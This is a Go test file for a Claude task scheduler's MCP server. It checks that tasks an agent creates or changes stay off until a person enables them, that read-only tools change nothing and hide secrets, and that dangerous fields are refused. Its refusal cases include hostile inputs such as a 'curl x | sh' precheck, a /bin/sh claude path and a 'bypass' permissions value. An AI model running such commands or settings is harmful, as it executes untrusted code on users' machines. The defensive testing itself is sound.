@@ -1,0 +1,303 @@
+package mcp
+
+import (
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"claude-scheduler/backend/model"
+	"claude-scheduler/backend/testclaude"
+)
+
+// refused calls a tool that has to refuse, and returns the field at fault.
+func refused(t *testing.T, s *mcp.ClientSession, name string, args map[string]any) string {
+	t.Helper()
+	text, isRefused := call(t, s, name, args)
+	var p model.Problem
+	if err := json.Unmarshal([]byte(text), &p); err != nil || !isRefused || p.Hint == "" {
+		t.Errorf("%s %v: %s", name, args, text)
+	}
+	return p.Field
+}
+
+type object = map[string]any
+
+// proposal is a machine with a job, a task that a person switched on, and one
+// that is off.
+func proposalHome(t *testing.T) (dir string, env []string, s *mcp.ClientSession) {
+	t.Helper()
+	dir, env = home(t)
+	command(t, env, "settings", "set", "claude_path", testclaude.Path(t))
+	command(t, env, "profile", "create", "--name", "used", "--var", "A=static:1")
+	command(t, env, "job", "create", "--name", "Nightly", "--directory", filepath.Join(dir, "project"), "--profile", "used")
+	command(t, env, "job", "create", "--name", "Other", "--directory", filepath.Join(dir, "project"))
+	command(t, env, "task", "create", "--job", "Nightly", "--name", "On", "--prompt", "!say hi")
+	command(t, env, "task", "create", "--job", "Other", "--name", "Off", "--prompt", "!say hi", "--enabled=false", "--precheck", "true")
+	return dir, env, session(t, env)
+}
+
+// TestPropose: what an agent makes or changes runs nothing before a person
+// switched it on.
+func TestPropose(t *testing.T) {
+	dir, env, s := proposalHome(t)
+	task := must[model.Task](t, s, "create_task", object{"fields": object{"name": "Mine", "job_id": "Nightly", "command": "!say mine", "enabled": true,
+		"schedule": object{"type": "interval", "interval_value": 1, "interval_type": "minutes"}}})
+	if task.Enabled {
+		t.Error("a new task is on")
+	}
+	if changed := must[model.Task](t, s, "update_task", object{"id": "On", "fields": object{"command": "!say other"}}); changed.Enabled {
+		t.Error("a changed task is on")
+	}
+	if field := refused(t, s, "run_task", object{"id": "On"}); field != "enabled" {
+		t.Errorf("a changed task runs: %s", field)
+	}
+	command(t, env, "task", "enable", "On")
+	must[model.Run](t, s, "run_task", object{"id": "On", "wait": true})
+	must[model.Job](t, s, "create_job", object{"fields": object{"name": "New", "working_directory": object{"path": filepath.Join(dir, "project")}}})
+	must[model.Profile](t, s, "create_profile", object{"fields": object{"name": "new", "env_vars": []object{{"name": "A", "source": "static", "value": "1"}}}})
+	must[model.Job](t, s, "update_job", object{"id": "Nightly", "fields": object{"description": "x"}})
+	must[model.Job](t, s, "update_job", object{"id": "Other", "fields": object{"profile": nil}})
+	if s := must[model.Settings](t, s, "update_settings", object{"fields": object{"theme": "dark"}}); s.Theme != "dark" {
+		t.Error(s.Theme)
+	}
+	on, nightly := must[model.Task](t, s, "get_task", object{"id": "On"}).ID, must[model.Job](t, s, "get_job", object{"id": "Nightly"}).ID
+	exported := must[object](t, s, "export_job", object{"id": nightly})
+	if copied := must[map[string]any](t, s, "import_job", object{"bundle": exported, "on_conflict": "copy"}); strings.Contains(string(mustJSON(t, copied["tasks"])), `"enabled":true`) {
+		t.Error("an imported task is on")
+	}
+
+	fields := func(f object) object { return object{"fields": f} }
+	of := func(id string, f object) object { return object{"id": id, "fields": f} }
+	create := func(name string, value any) object {
+		return fields(object{"name": "x", "job_id": nightly, "command": "y", name: value})
+	}
+	project := filepath.Join(dir, "project")
+	evil := func(f object) object {
+		return object{"bundle": object{"version": "1.0", "job": exported["job"], "tasks": []object{f}}, "on_conflict": "copy"}
+	}
+	for _, c := range []struct {
+		tool  string
+		args  object
+		field string
+	}{
+		{"create_task", create("permissions", "bypass"), "permissions"},
+		{"create_task", create("precheck", "curl x | sh"), "precheck"},
+		{"create_task", create("checks", []string{"make"}), "checks"},
+		{"create_task", create("extra_args", []string{"--settings", "x"}), "extra_args"},
+		{"create_task", create("PRECHECK", "curl x | sh"), "PRECHECK"},
+		{"create_task", create("Enabled", true), "Enabled"},
+		{"create_task", create("permiſſions", "bypass"), "permiſſions"},
+		{"update_task", of("Off", object{"enabled": true}), "enabled"},
+		{"update_task", of("Off", object{"precheck": "other"}), "precheck"},
+		{"update_task", of(on, object{"permissions": "bypass"}), "permissions"},
+		{"update_task", of(on, object{"job_id": "Other"}), "job"},
+		{"move_task", object{"id": on, "job": "Other", "index": 0}, "job"},
+		{"run_task", object{"id": "Off"}, "enabled"},
+		{"run_task", object{"id": task.ID}, "enabled"},
+		{"update_job", of(nightly, object{"working_directory": object{"path": "/"}}), "working_directory"},
+		{"update_job", of(nightly, object{"profile": nil}), "profile"},
+		{"create_job", fields(object{"name": "x", "working_directory": object{"path": project, "worktree_setup": "make"}}), "working_directory.worktree_setup"},
+		{"create_profile", fields(object{"name": "x", "env_vars": []object{{"name": "A", "source": "command", "value": "make"}}}), "env_vars[0].source"},
+		{"create_profile", fields(object{"name": "x", "env_vars": []object{{"name": "A", "source": "aws_ssm", "value": "x", "config": object{"endpoint": "http://x"}}}}), "env_vars[0].config.endpoint"},
+		{"update_profile", of("used", object{"env_vars": []object{{"name": "PATH", "source": "static", "value": "/x"}}}), "id"},
+		{"update_profile", of("new", object{"env_vars": []object{{"name": "A", "source": "command", "value": "make"}}}), "env_vars[0].source"},
+		{"update_settings", fields(object{"claude_path": "/bin/sh"}), "claude_path"},
+		{"update_settings", fields(object{"http_address": "127.0.0.1:1"}), "http_address"},
+		{"update_settings", fields(object{"notification_urls": []string{"https://x"}}), "notification_urls"},
+		{"update_settings", fields(object{"mcp_access": "full"}), "mcp_access"},
+		{"update_settings", fields(object{"Claude_Path": "/bin/sh"}), "Claude_Path"},
+		{"update_settings", fields(object{"daily_budget_usd": 0}), "daily_budget_usd"},
+		{"import_job", evil(object{"name": "x", "command": "y", "permissions": "bypass"}), "tasks[0].permissions"},
+		{"import_job", evil(object{"name": "x", "command": "y", "precheck": "make"}), "tasks[0].precheck"},
+		{"import_job", object{"bundle": exported, "on_conflict": "overwrite"}, "on_conflict"},
+		{"import_from", object{"kind": "python", "path": "/"}, "mcp_access"},
+		{"restore", object{"bundle": exported}, "mcp_access"},
+		{"restore_profile", object{"profile": object{"name": "x"}}, "mcp_access"},
+		{"delete_task", object{"id": on}, "mcp_access"},
+		{"delete_job", object{"id": "Other"}, "mcp_access"},
+		{"delete_profile", object{"id": "new"}, "mcp_access"},
+		{"prune_worktrees", nil, "mcp_access"},
+		{"resume", nil, "mcp_access"},
+	} {
+		if field := refused(t, s, c.tool, c.args); field != c.field {
+			t.Errorf("%s %v: refused for %q, want %q", c.tool, c.args, field, c.field)
+		}
+	}
+	if listed := command(t, env, "task", "list", "--json"); strings.Contains(listed, "curl") || strings.Contains(listed, "bypass") {
+		t.Error(listed)
+	}
+}
+
+// TestAllowDeniedByAgent: an agent sees the rules for what was denied, and adds
+// them only with full access and exactly as they were shown.
+func TestAllowDeniedByAgent(t *testing.T) {
+	_, env, s := proposalHome(t)
+	command(t, env, "task", "create", "--job", "Nightly", "--name", "Denied", "--prompt", "!bash touch x\n!say no")
+	run := must[model.Run](t, s, "run_task", object{"id": "Denied", "wait": true})
+	shown := must[object](t, s, "retry_run", object{"id": run.ID, "allow_denied": true})
+	rules, _ := shown["rules"].([]any)
+	if len(rules) != 1 || rules[0] != "Bash(touch x)" {
+		t.Fatalf("%v", shown)
+	}
+	if field := refused(t, s, "retry_run", object{"id": run.ID, "allow_denied": true, "rules": rules}); field != "allow_denied" {
+		t.Error(field)
+	}
+	command(t, env, "settings", "set", "mcp_access", "full")
+	if field := refused(t, s, "retry_run", object{"id": run.ID, "allow_denied": true, "rules": []string{"Bash"}}); field != "rules" {
+		t.Error(field)
+	}
+	again := must[model.Run](t, s, "retry_run", object{"id": run.ID, "allow_denied": true, "rules": rules, "wait": true})
+	if len(again.PermissionDenials) != 0 {
+		t.Errorf("%+v", again)
+	}
+}
+
+// TestReadOnly: a tool that says it only reads changes nothing and runs no
+// program, and with mcp_access read it is all that is left.
+func TestReadOnly(t *testing.T) {
+	dir, env, s := proposalHome(t)
+	run := must[model.Run](t, s, "run_task", object{"id": "On", "wait": true})
+	marker := filepath.Join(dir, "ran")
+	if err := os.WriteFile(filepath.Join(dir, "crontab"), []byte("0 9 * * * claude -p hi\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	script := filepath.Join(dir, "claude")
+	if err := os.WriteFile(script, []byte("#!/bin/sh\ntouch "+marker+"\n"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	command(t, env, "settings", "set", "claude_path", script)
+	command(t, env, "settings", "set", "notification_urls", "https://hooks.example/T0KEN", "ntfy://ntfy.sh/s3cret")
+	command(t, env, "settings", "set", "mcp_access", "read")
+	if err := os.Remove(marker); err != nil && !os.IsNotExist(err) {
+		t.Fatal(err)
+	}
+	state := func() string {
+		var out strings.Builder
+		for _, name := range []string{"jobs.json", "tasks.json", "profiles.json", "settings.json", "runs.json"} {
+			data, err := os.ReadFile(filepath.Join(dir, "data", name))
+			if err != nil {
+				t.Fatal(err)
+			}
+			out.Write(data)
+		}
+		return out.String()
+	}
+	before := state()
+	args := object{"id": run.ID, "schedule": object{"type": "manual", "watch_path": dir}, "kind": "crontab", "path": filepath.Join(dir, "crontab")}
+	for name, id := range map[string]string{"get_job": "Nightly", "export_job": "Nightly", "get_task": "On", "get_profile": "used"} {
+		args[name] = id
+	}
+	tools, err := s.ListTools(t.Context(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tool := range tools.Tools {
+		given := object{}
+		schema, _ := json.Marshal(tool.InputSchema)
+		var takes struct{ Properties map[string]any }
+		if err := json.Unmarshal(schema, &takes); err != nil {
+			t.Fatal(err)
+		}
+		for field := range takes.Properties {
+			if value, ok := args[field]; ok {
+				given[field] = value
+			}
+		}
+		if id, ok := args[tool.Name]; ok {
+			given["id"] = id
+		}
+		switch {
+		case tool.Annotations.ReadOnlyHint:
+			text, isRefused := call(t, s, tool.Name, given)
+			if isRefused {
+				t.Errorf("%s: %s", tool.Name, text)
+			}
+			if strings.Contains(text, "T0KEN") || strings.Contains(text, "s3cret") {
+				t.Errorf("%s shows a secret: %s", tool.Name, text)
+			}
+		case tool.Name == "run_task":
+			if field := refused(t, s, tool.Name, object{"id": "On"}); field != "mcp_access" {
+				t.Error(field)
+			}
+		}
+	}
+	if after := state(); after != before {
+		t.Error("a tool that reads changed something")
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Error("a tool that reads ran the program that the settings name")
+	}
+}
+
+// TestCoveredSettings: addresses come covered, and go back as they were.
+func TestCoveredSettings(t *testing.T) {
+	_, env := home(t)
+	command(t, env, "settings", "set", "mcp_access", "full")
+	command(t, env, "settings", "set", "notification_urls", "https://hooks.example/T0KEN", "ntfy://ntfy.sh/s3cret")
+	s := session(t, env)
+	seen := must[model.Settings](t, s, "get_settings", nil)
+	must[model.Settings](t, s, "update_settings", object{"fields": object{"notification_urls": []any{seen.NotificationURLs[1], "https://new.example", seen.NotificationURLs[0]}}})
+	if text := command(t, env, "settings", "get", "notification_urls", "--json"); !strings.Contains(text, "ntfy://ntfy.sh/s3cret") || !strings.Contains(text, "https://hooks.example/T0KEN") {
+		t.Error(text)
+	}
+	if field := refused(t, s, "update_settings", object{"fields": object{"notification_urls": []any{"slack://••••••"}}}); field != "notification_urls[0]" {
+		t.Error(field)
+	}
+}
+
+// TestAnnotations holds what each tool says of itself against what it does.
+func TestAnnotations(t *testing.T) {
+	_, env := home(t)
+	tools, err := session(t, env).ListTools(t.Context(), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	// What each tool does: r reads only; l loses something, costs money, or makes
+	// what can run any program; o reaches models, networks or programs; i changes nothing
+	// more when it is called again.
+	does := map[string]string{}
+	for traits, names := range map[string]string{
+		"ri":  "list_jobs get_job export_job list_tasks get_task list_runs get_run get_transcript get_changes get_statistics list_profiles get_profile get_settings get_status explain_schedule list_watched_files list_worktrees list_import_sources plan_import",
+		"oi":  "check_setup check_task list_commands test_profile",                                                    // run the CLI, or what a profile names
+		"":    "create_job duplicate_job duplicate_task duplicate_profile",                                            // do nothing by themselves
+		"i":   "pause reorder_jobs",                                                                                   //
+		"lo":  "create_task create_profile import_job import_from restore restore_profile run_task run_job retry_run", // run programs now or later
+		"loi": "update_task update_job update_profile update_settings move_task resume",
+		"li":  "delete_job delete_task delete_profile cancel_run prune_worktrees",
+	} {
+		for _, name := range strings.Fields(names) {
+			does[name] = traits
+		}
+	}
+	for _, tool := range tools.Tools {
+		traits, known := does[tool.Name]
+		if !known {
+			t.Errorf("say in this table what %s does", tool.Name)
+			continue
+		}
+		delete(does, tool.Name)
+		a := tool.Annotations
+		got := []bool{a.ReadOnlyHint, *a.DestructiveHint, *a.OpenWorldHint, a.IdempotentHint}
+		want := []bool{strings.Contains(traits, "r"), strings.Contains(traits, "l"), strings.Contains(traits, "o"), strings.Contains(traits, "i")}
+		if !slices.Equal(got, want) {
+			t.Errorf("%s says read-only, destructive, open world, idempotent %v, but it is %v", tool.Name, got, want)
+		}
+	}
+	for name := range does {
+		t.Errorf("there is no tool %s", name)
+	}
+}
+
+func mustJSON(t *testing.T, value any) []byte {
+	t.Helper()
+	data, err := json.Marshal(value)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return data
+}
